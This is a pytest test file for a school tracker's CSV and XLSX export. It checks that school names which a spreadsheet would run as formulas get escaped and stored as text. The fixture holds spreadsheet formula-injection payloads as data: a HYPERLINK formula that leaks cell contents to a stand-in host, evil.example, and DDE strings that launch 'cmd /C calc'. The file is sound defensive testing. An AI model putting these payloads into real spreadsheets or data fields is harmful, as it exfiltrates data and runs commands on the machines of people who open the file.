"""`tracker export` with names a spreadsheet would run or choke on, read back as a spreadsheet reads
them."""

from __future__ import annotations

import csv
from datetime import date

import pytest
from openpyxl import load_workbook

from cli import main
from tests.scenarios import ADMIN
from tracker.application import Tracker
from tracker.exports import HEADER, csv_cell, write

HOSTILE = {
    "900011": '=HYPERLINK("http://evil.example/?"&A1,"Click for figures")',
    "900012": "+1+cmd|' /C calc'!A0",
    "900013": "-2+3",
    "900014": "@SUM(1+1)*cmd|' /C calc'!A0",
}
UNREADABLE = {"900015": "St Mary\ufffe\uffffs School"}


@pytest.fixture
def exported(tmp_path, monkeypatch):
    url = f"sqlite:///{tmp_path / 'exports.sqlite3'}"
    monkeypatch.setenv("DATABASE_URL", url)
    app = Tracker.from_url(url)
    app.register_hub("DEMO", "Demo", "Area", 1, caller=ADMIN)
    for number, (urn, name) in enumerate({**HOSTILE, **UNREADABLE}.items()):
        app.register_school(urn, name, "secondary", "885", f"88540{number + 11}", caller=ADMIN)
        app.join_hub("DEMO", urn, date(2018, 9, 1), caller=ADMIN)
    for suffix in ("csv", "xlsx"):
        assert (
            main(
                [
                    "export",
                    str(tmp_path / f"hub.{suffix}"),
                    "--hub",
                    "DEMO",
                    "--as-of",
                    "2019-03-31",
                ]
            )
            == 0
        )
    return tmp_path


def test_a_name_a_spreadsheet_would_run_as_a_formula_is_written_to_csv_with_a_leading_quote(
    exported,
):
    with (exported / "hub.csv").open(newline="", encoding="utf-8") as file:
        rows = {row["urn"]: row for row in csv.DictReader(file)}
    for urn, name in HOSTILE.items():
        assert rows[urn]["name"] == "'" + name
    assert rows["900015"]["name"] == "St Marys School"
    assert rows["900011"]["bm5_measured"] == "0" and rows["900011"]["as_of"] == "2019-03-31"


def test_the_xlsx_holds_every_name_as_text_never_a_formula_and_opens_despite_characters_xml_cannot_hold(  # noqa: E501
    exported,
):
    sheet = load_workbook(exported / "hub.xlsx").active
    header = [cell.value for cell in sheet[1]]
    rows = {row[0].value: dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)}
    for urn, name in HOSTILE.items():
        cell = rows[urn]["name"]
        assert (cell.value, cell.data_type, cell.quotePrefix) == (name, "s", True)
    assert (
        rows["900015"]["name"].value == "St Marys School" and not rows["900015"]["name"].quotePrefix
    )
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_numbers_stay_numbers_negative_ones_included_and_only_text_is_quoted(tmp_path):
    row = ["900001", "-1", -3, -1.5, 0, None, True, "\tTabbed", "\rReturned", "plain"]
    write(tmp_path / "numbers.csv", HEADER[: len(row)], [row])
    write(tmp_path / "numbers.xlsx", HEADER[: len(row)], [row])
    with (tmp_path / "numbers.csv").open(newline="") as file:
        assert list(csv.reader(file))[1] == [
            "900001",
            "'-1",
            "-3",
            "-1.5",
            "0",
            "",
            "True",
            "'\tTabbed",
            "'\rReturned",
            "plain",
        ]
    cells = list(load_workbook(tmp_path / "numbers.xlsx").active.iter_rows(min_row=2))[0]
    assert [(cell.value, cell.data_type) for cell in cells[:4]] == [
        ("900001", "s"),
        ("-1", "s"),
        (-3, "n"),
        (-1.5, "n"),
    ]
    assert cells[1].quotePrefix and not cells[0].quotePrefix and cells[7].quotePrefix


def test_text_no_file_can_hold_is_left_out_of_csv_too():
    assert csv_cell("a\ud800b\x00c\x1fd\ufffe") == "abcd"
    assert csv_cell("=\ud800") == "'="
